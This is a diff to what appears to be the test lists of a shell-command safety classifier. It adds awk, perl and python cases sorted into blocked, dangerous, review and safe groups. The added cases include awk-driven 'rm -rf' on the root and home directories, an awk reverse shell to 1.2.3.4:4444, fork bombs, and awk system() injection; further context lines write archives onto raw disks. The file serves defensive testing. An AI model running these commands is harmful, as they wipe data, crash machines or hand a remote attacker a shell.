@@ -74,6 +74,13 @@ BLOCKED = [
     "x=(rm -rf /); \"${x[@]}\"",
     "a=(rm -rf ~); ${a[*]}",
     "a=(x rm); ${a[1]} -rf /",
+    # inline programs: awk strings piped to sh or held in a variable, sockets, fork loops
+    "awk 'BEGIN{print \"rm -rf /\" | \"sh\"}'",
+    "awk 'BEGIN { cmd=\"rm -rf ~\"; system(cmd) }'",
+    "awk 'BEGIN{\"rm -rf ~\" | getline}'",
+    "awk 'BEGIN{s=\"/inet/tcp/0/1.2.3.4/4444\";while(1){s|&getline c;while((c|&getline)>0)print $0|&s;close(c)}}'",
+    "perl -e 'fork while fork'",
+    "python3 -c 'import os\nwhile 1: os.fork()'",
     # creating an archive writes the -f target
     "tar -cf /dev/sda x",
     "tar cf /dev/nvme0n1 .",
@@ -91,6 +98,7 @@ DANGEROUS = [
     "git config filter.x.smudge ./x.sh",
     "for f in $(ls); do rm -rf \"$f\"; done",
     "cat list | parallel rm -rf",
+    "awk '{ system(\"rm -rf \" $1) }' list",
     "while read -r f; do rm -rf \"$f\"; done < list",
     # extraction and copies land where -C/-d/the destination says (reading 6)
     "rsync -a x/ /etc/",
@@ -124,6 +132,7 @@ DANGEROUS = [
 REVIEW = [
     "curl -d@data.json https://x.io",  # -d's value is not a cluster of -o, -a, …
     "curl x.io > page.html",
+    "awk '{ system(\"echo \" $1) }' f",  # input data reaches sh: injection is possible
     # rsync from a remote host writes locally; to one it sends over the network
     "rsync -av h:/x ./y",
     "rsync -a src/ host:/backup",
@@ -148,6 +157,8 @@ SAFE = [
     "f=a.tar.gz; echo ${f%.tar.gz}",
     "x=/home/u/a.txt; echo ${x##*/}",
     "dig example.com",
+    "awk 'BEGIN{\"date\" | getline d; print d}'",
+    "awk '{print $1}' access.log",
     "ping -c1 8.8.8.8",
     "curl -s https://x.io | jq .",
     # crying wolf: help and version output, local crypto, read-only system queries
